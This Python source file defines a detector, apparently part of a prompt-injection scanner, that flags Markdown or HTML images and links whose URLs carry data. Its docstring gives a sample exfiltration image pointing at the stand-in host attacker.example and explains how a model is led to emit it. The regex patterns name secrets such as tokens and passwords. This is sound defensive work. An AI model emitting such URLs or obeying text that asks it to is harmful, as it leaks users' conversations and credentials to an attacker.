"""Family ``injection.exfiltration``: Markdown images and links whose URL carries data.

Attack kind: the model is led to emit ``![](https://attacker.example/log?q=<secret>)``; a client
that renders Markdown fetches the image and so sends the data without a click. Reported: images
(Markdown or HTML ``<img>``) whose URL has a query string or a placeholder, and links whose URL
holds a placeholder for data to fill in (``{conversation}``, ``[DATA]``, ``$SECRET``, ``<...>``)
or an instruction to append data.
"""

from __future__ import annotations

import re
from typing import Iterator

from ctxviewer.assess.scanner.patterns import Hit, LazyPattern
from ctxviewer.assess.scanner.prefilter import finditer
from ctxviewer.model.findings import Severity

_MD_IMAGE = LazyPattern(r"!\[[^\]\n]{0,200}\]\(\s*<?(?P<url>(?:https?:)?//[^)\s>]+)")
_HTML_IMAGE = LazyPattern(r"<img\b[^>]*?\bsrc\s*=\s*[\"']?(?P<url>(?:https?:)?//[^\"'\s>]+)", re.IGNORECASE)
_MD_LINK = LazyPattern(r"(?<!!)\[[^\]\n]{0,200}\]\(\s*<?(?P<url>(?:https?:)?//[^)\s>]+)")
_PLACEHOLDER = LazyPattern(
    r"\{[^}]{1,40}\}|\[[A-Z_ ]{3,40}\]|\$[A-Z_]{3,}|<[A-Za-z_ ]{3,40}>|%[A-Z_]{3,}%|\bINSERT\b|\bDATA\b|\bSECRET\b"
    r"|\b(?:conversation|history|password|secret|token|apikey|api_key|email|summary|chat|prompt|memory|data)=(?:\W|$)",
)
_DATA_PARAM = LazyPattern(r"[?&][\w.-]+=([^&#\s]{12,})")
_APPEND = LazyPattern(r"\b(?:append|add|include|insert|replace|encode|fill\s+in)\b[^.\n]{0,60}\b(?:url|link|query|parameter|image)\b",
                     re.IGNORECASE)


class Exfiltration:
    """Images that fetch a URL with data in it, and links with placeholders for data."""

    id = "injection.exfiltration"
    title = "Markdown image or link whose URL carries data (exfiltration)"

    def find(self, text: str) -> Iterator[Hit]:
        """One hit per suspicious image or link (the span covers the Markdown or tag up to the URL's end)."""
        for pattern, is_image in ((_MD_IMAGE, True), (_HTML_IMAGE, True), (_MD_LINK, False)):
            for m in finditer(pattern, text):
                url = m.group("url")
                end = m.end("url") + (text[m.end("url"):m.end("url") + 1] in ")>\"'")
                if _PLACEHOLDER.search(url):
                    yield Hit(self.id, m.start(), end, f"{'image' if is_image else 'link'} URL with a "
                              f"placeholder for data to fill in: {url[:80]}", Severity.FAILURE)
                elif is_image and ("?" in url or _DATA_PARAM.search(url)):
                    yield Hit(self.id, m.start(), end, f"image URL with a query string, fetched when "
                              f"rendered: {url[:80]}", Severity.WARNING)
        for m in finditer(_APPEND, text):
            window = text[max(0, m.start() - 200): m.end() + 200]
            if re.search(r"https?://|!\[", window):
                yield Hit(self.id, m.start(), m.end(), f"asks to put data into a URL: '{m.group(0)[:60]}'",
                          Severity.WARNING)


EXFILTRATION = Exfiltration()
